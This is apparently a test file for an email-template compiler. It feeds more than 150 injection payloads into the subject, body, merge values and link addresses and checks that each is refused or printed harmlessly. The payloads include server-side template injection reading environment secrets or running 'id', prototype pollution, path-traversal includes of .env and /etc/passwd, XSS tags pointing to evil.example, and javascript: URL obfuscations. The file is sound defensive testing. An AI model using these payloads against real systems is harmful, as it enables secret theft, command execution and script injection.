import { readLayout } from './bundled-templates';
import { compileEmail, type EmailSource, type FrozenContent, type Sender } from './compile';
import { openContent } from './content-renderer';
import { readMarkup } from './lint/markup';
import { sampleScope, type MergeScope } from './merge-fields';

/** `7*191` is 1337: it must never be worked out. `CANARY` stands for what must never be read. */
const CODE = [
  '{{7*191}}',
  '{{ 7 | times: 191 }}',
  '{{ 191 | multiply: 7 }}',
  '${7*191}',
  '#{7*191}',
  '<%= 7*191 %>',
  '<%- 7*191 %>',
  '{{= 7*191 }}',
  '{7*191}',
  '*{7*191}',
  '@(7*191)',
  '{%= 7*191 %}',
  '{% print 7*191 %}',
  '{% raw %}{{7*191}}{% endraw %}',
  '{{{7*191}}}',
  '[[7*191]]',
  '[[${7*191}]]',
  '{@7*191}',
  '~[7*191]',
  '{{#with "s" as |string|}}{{#with "e"}}{{lookup string.sub "constructor"}}{{/with}}{{/with}}',
  '{{#each this}}{{@key}}{{/each}}',
  '{{lookup this "constructor"}}',
  '{{constructor.constructor("return process.env.CANARY")()}}',
  '{{ constructor }}',
  '{{ contact.constructor }}',
  '{{ contact.constructor.constructor }}',
  '{{ contact.__proto__ }}',
  '{{ contact["__proto__"]["polluted"] }}',
  '{{ contact.first_name.constructor }}',
  '{{ "".constructor.constructor }}',
  '{{ contact.toString }}',
  '{{ contact.hasOwnProperty }}',
  '{{ __proto__.polluted }}',
  '{{ prototype }}',
  '{{ self }}',
  '{{ this }}',
  '{{ global.process.env.CANARY }}',
  '{{ process.env.CANARY }}',
  '{{ env.SESSION_SECRET }}',
  '{{ settings }}',
  '{{ request }}',
  '{{ config.items() }}',
  '{{ cycler.__init__.__globals__.os.popen("id").read() }}',
  '{{ "".__class__.__mro__[1].__subclasses__() }}',
  '{% assign __proto__ = contact %}',
  '{% assign constructor = contact %}',
  '{% assign prototype = contact %}',
  "{% assign toString = 'x' %}",
  "{% assign links = 'x' %}",
  "{% assign reason = 'x' %}",
  '{% for __proto__ in (1..2) %}x{% endfor %}',
  '{% for links in (1..2) %}x{% endfor %}',
  '{% for i in (1..100000000) %}x{% endfor %}',
  '{% for i in (1..9999) %}{% for j in (1..9999) %}{% for k in (1..9999) %}x{% endfor %}{% endfor %}{% endfor %}',
  '{% include "package.json" %}',
  "{% include '../../../.env' %}",
  '{% include contact.first_name %}',
  '{% render "/etc/passwd" %}',
  '{% layout "package.json" %}',
  '{% block a %}{% endblock %}',
  '{% capture links %}x{% endcapture %}',
  '{% increment links %}',
  '{% decrement reason %}',
  '{% cycle "a", "b" %}',
  '{% tablerow i in (1..3) %}x{% endtablerow %}',
  '{% liquid\nassign links = 1\necho links %}',
  '{% echo contact.first_name %}',
  '{% # {{ x }} %}',
  '{% break %}',
  '{% continue %}',
  '{% if true %}{% break %}{% endif %}',
  '{% comment %}',
  '{% raw %}',
  '{% endif %}',
  '{% import os %}',
  "{% set x = 'y' %}",
  '{{ topic.name | raw }}',
  '{{ topic.name | json }}',
  '{{ contact | json }}',
  '{{ contact | inspect }}',
  "{{ contact | where: 'a', 'b' }}",
  "{{ contact | map: 'first_name' }}",
  "{{ contact | find_exp: 'x', 'x.y' }}",
  "{{ contact | group_by_exp: 'x', 'x.constructor' }}",
  '{{ contact | sort_natural }}',
  '{{ topic.name | constructor }}',
  '{{ topic.name | __proto__ }}',
  '{{ topic.name | toString }}',
  '{{ topic.name | hasOwnProperty }}',
  "{{ 'now' | date: '%s' }}",
  "{{ 'x' | strip_html }}",
  "{{ 'x' | escape_once }}",
  "{{ 'x' | newline_to_br }}",
  "{{ 'Q0FOQVJZ' | base64_decode }}",
  '{{ topic.name | default: contact.constructor.name }}',
  '{{ toupper "x" }}',
  '{{ env "CANARY" }}',
  '{{ .Values.secret }}',
  '{{- with .Env }}{{ .CANARY }}{{ end -}}',
  '{{ printf "%s" .Secret }}',
  '{{ range $k, $v := . }}{{ $k }}{{ end }}',
  '{php}echo 7*191;{/php}',
  '{{ include "x" . }}',
  '#set($x=7*191)$x',
  '<#assign x=7*191>${x}',
  '${T(java.lang.Runtime).getRuntime().exec("id")}',
  '%{(#a=7*191)}',
  '*|FNAME|*',
  '%recipient.name%',
  '|UNSUBSCRIBE|',
  '###LINK###',
];

const MARKUP = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr{{ topic.name }}ipt>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://e.example/a.png" alt="" onerror="alert(1)">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<iframe src="https://evil.example"></iframe>',
  '<object data="https://evil.example"></object>',
  '<embed src="https://evil.example">',
  '<form action="https://evil.example"><input name="p"></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<style>@import url(https://evil.example/x.css);</style>',
  '<style>.sheet ~ div{display:none}</style>',
  '<p style="background:url(https://evil.example/a.png);position:absolute">x</p>',
  '<p style="width:expression(alert(1))">x</p>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="background:url(data:text/html,x)">x</p>',
  '<p style="-moz-binding:url(https://evil.example)">x</p>',
  '<p style="color:red;posi\\74ion:fixed">x</p>',
  '<div onclick="alert(1)">x</div>',
  '<div ONMOUSEOVER="alert(1)">x</div>',
  '<b/onclick=alert(1)>x</b>',
  '<b a="x"onclick="alert(1)">x</b>',
  '<b {% if topic.name %}onclick="alert(1)"{% endif %}>x</b>',
  '<b title="x{% if topic.name %}" onclick="alert(1)"{% endif %}>x</b>',
  '{% if contact.city == "x" %}<!--{% endif %}<script>alert(1)</script>{% if contact.city == "x" %}-->{% endif %}',
  '<!--[if mso]><script>alert(1)</script><![endif]-->x',
  '<!-- unfinished',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '<!DOCTYPE html><p>x</p>',
  '<title><script>alert(1)</script></title>',
  '<textarea><script>alert(1)</script></textarea>',
  '<noscript><p title="</noscript><script>alert(1)</script>">x</p></noscript>',
  '<template><script>alert(1)</script></template>',
  '<video poster="https://evil.example/a.png"></video>',
  '<a ping="https://evil.example" href="https://e.example">x</a>',
  '<table background="https://evil.example/a.png"><tr><td>x</td></tr></table>',
  '<img srcset="https://evil.example/a.png 2x" alt="">',
  '</mj-text></mj-column></mj-section></mj-wrapper></mj-body></mjml><script>alert(1)</script>',
  '</mj-text><mj-include path="/etc/passwd" /><mj-text>',
  '<mj-include path="package.json" type="html" />',
  '</div></td></tr></table><div style="display:none">',
  '<div style="display:none">',
  '<plaintext>',
];

/** d.2 #6: only https, mailto and tel. */
const ADDRESSES = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  '\u0001javascript:alert(1)',
  'java&#115;cript:alert(1)',
  'javascript&colon;alert(1)',
  'java&Tab;script:alert(1)',
  '&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD4=',
  'DATA:image/svg+xml,x',
  'vbscript:msgbox(1)',
  'file:///etc/passwd',
  'ftp://e.example/',
  'blob:https://e.example/x',
  'about:blank',
  'view-source:https://e.example',
  'intent://x#Intent;end',
  'sms:+46701740605',
  'http://e.example/',
  '//evil.example',
  '\\\\evil.example',
  'https:\\\\evil.example',
  'https:/evil.example',
  'https:evil.example',
  'https://',
  'https://?x',
  'https://e.example@evil.example/',
  'https://e.example\\@evil.example/',
  '{{ topic.name }}:alert(1)',
  '{{ contact.first_name }}',
  "{{ 'javascript:alert(1)' }}",
  "{% assign x = 'javascript:alert(1)' %}{{ x }}",
  'java{{ contact.nothing }}script:alert(1)',
  'https://{{ contact.city | url_encode }}/',
  'https://e.example{{ contact.city | url_encode }}',
  'https://e.example/?a={{ contact.city }}',
  '{{ links.unsubscribe }}javascript:',
  'x{{ links.unsubscribe }}',
  '../u/x',
  '?x',
];

const sender: Sender = {
  name: 'Lärkraft',
  legalName: 'Lärkraft AB',
  postalAddress: 'Exempelgatan 1',
  email: 'hej@larkraft.example',
  phone: '070-174 06 05',
  publicUrl: 'https://mejl.larkraft.example',
  authority: 'IMY',
};
const layout = readLayout('marketing');
const context = { publicUrl: sender.publicUrl, senderName: sender.name };

const inText = (words: string) =>
  `<mj-section><mj-column><mj-text>${words}</mj-text></mj-column></mj-section>`;

async function compile(change: Partial<EmailSource>): Promise<FrozenContent | null> {
  const plain = { language: 'sv' as const, subject: 'Ämne', preheader: 'Mer', body: inText('Hej') };
  return (await compileEmail({ ...plain, ...change }, sender, layout)).content;
}

function render(content: FrozenContent, scope: MergeScope = sampleScope('sv', context)) {
  const open = openContent(content);
  const { subject, htmlHoles, textHoles } = open.renderFor(scope);
  return { subject, html: open.html(htmlHoles), text: open.text(textHoles) };
}

function expectHarmless({ subject, html, text }: ReturnType<typeof render>) {
  expect(`${subject}\n${html}\n${text}`).not.toMatch(/1337|\[native code\]|\[object /);
  expect(subject).not.toMatch(/[\r\n]/);
  for (const event of readMarkup(html, { xml: false })) {
    if (event.kind !== 'open') continue;
    expect(event.name).not.toMatch(/^(script|iframe|object|embed|form|base|link|svg|math)$/i);
    for (const { name, value } of event.attributes) {
      expect(name).not.toMatch(/^on/i);
      if (/^(href|src)$/i.test(name)) expect(value).toMatch(/^(https:\/\/|mailto:|tel:)/);
    }
  }
  expect(html).toMatch(/href="https:\/\/mejl\.larkraft\.example\/u\/[^"]+"[^>]*>\s*Avsluta/);
  expect(text).toMatch(/Avsluta prenumeration: https:\/\/mejl\.larkraft\.example\/u\/\S+\n/);
}

const prototypeKeys = JSON.stringify(Object.getOwnPropertyNames(Object.prototype));

beforeAll(() => void (process.env['CANARY'] = '1337'));
afterAll(() => void delete process.env['CANARY']);
afterEach(() => {
  expect(JSON.stringify(Object.getOwnPropertyNames(Object.prototype))).toBe(prototypeKeys);
  expect(({} as Record<string, unknown>)['polluted']).toBeUndefined();
});

const payloads = [...CODE, ...MARKUP];

it('knows at least a hundred and fifty attacks', () => {
  expect(new Set(payloads).size).toBeGreaterThanOrEqual(150);
});

describe('an attack written by an author is refused, or printed as it stands', () => {
  it.each(payloads)('in the body: %s', async (payload) => {
    const content = await compile({ body: inText(payload) });
    if (content) expectHarmless(render(content));
  });

  it.each(MARKUP)('in raw MJML: %s', async (payload) => {
    const content = await compile({ body: `<mj-raw>${payload}</mj-raw>${inText('Hej')}` });
    if (content) expectHarmless(render(content));
  });

  it.each(payloads)('in subject and preheader: %s', async (payload) => {
    const content = await compile({ subject: payload, preheader: payload });
    if (content) expectHarmless(render(content));
  });
});

describe('an attack hidden in a merge value is printed as it stands', () => {
  const everything =
    "{{ contact.first_name }}{{ contact.last_name | default: 'x' }}{{ contact.full_name | upcase | downcase }}" +
    '{{ contact.title }}{% if contact.city %}{{ contact.city }}{% endif %}{{ organisation.name }}' +
    '{{ campaign.name }}{{ topic.name }}{{ sender.name }}{{ reason }}' +
    '<a href="https://e.example/?o={{ organisation.name | url_encode }}" title="{{ contact.city }}">a</a>' +
    '<img src="https://e.example/a.png" alt="{{ contact.title }}" />';
  let content: FrozenContent;
  let tags: string;

  const namesOf = (html: string) =>
    JSON.stringify(
      readMarkup(html, { xml: false })
        .map((event) =>
          event.kind === 'open'
            ? [event.name, event.attributes.map(({ name }) => name)]
            : event.kind,
        )
        .filter((event) => Array.isArray(event)),
    );

  beforeAll(async () => {
    const compiled = await compile({
      subject: '{{ contact.first_name }} {{ campaign.name }}',
      body: inText(everything),
    });
    content = compiled!;
    tags = namesOf(render(content).html);
  });

  it.each([...payloads, ...ADDRESSES])('%s', (payload) => {
    const scope = sampleScope('sv', context);
    for (const group of [scope.contact, scope.organisation, scope.campaign, scope.topic]) {
      for (const name of Object.keys(group)) (group as Record<string, string>)[name] = payload;
    }
    scope.sender.name = payload;
    scope.reason = payload;
    const rendered = render(content, scope);
    // Not one element or attribute more or less than for an ordinary person.
    expect(namesOf(rendered.html)).toBe(tags);
    expect(rendered.text).toContain(payload.trim());
    expect(rendered.subject).not.toMatch(/[\r\n]/);
  });
});

describe('d.2 #6: no address but https, mailto and tel is saved', () => {
  it.each(ADDRESSES)('%s', async (address) => {
    const quoted = address.replaceAll('"', '&quot;');
    const bodies = [
      inText(`<a href="${quoted}">x</a>`),
      `<mj-section><mj-column><mj-button href="${quoted}">x</mj-button></mj-column></mj-section>`,
      `<mj-section><mj-column><mj-image alt="" src="${quoted}" /></mj-column></mj-section>`,
      `<mj-section><mj-column><mj-image alt="" src="https://e.example/a.png" href="${quoted}" /></mj-column></mj-section>`,
      `<mj-section background-url="${quoted}"><mj-column><mj-text>x</mj-text></mj-column></mj-section>`,
    ];
    for (const body of bodies) expect(await compile({ body })).toBeNull();
  });
});
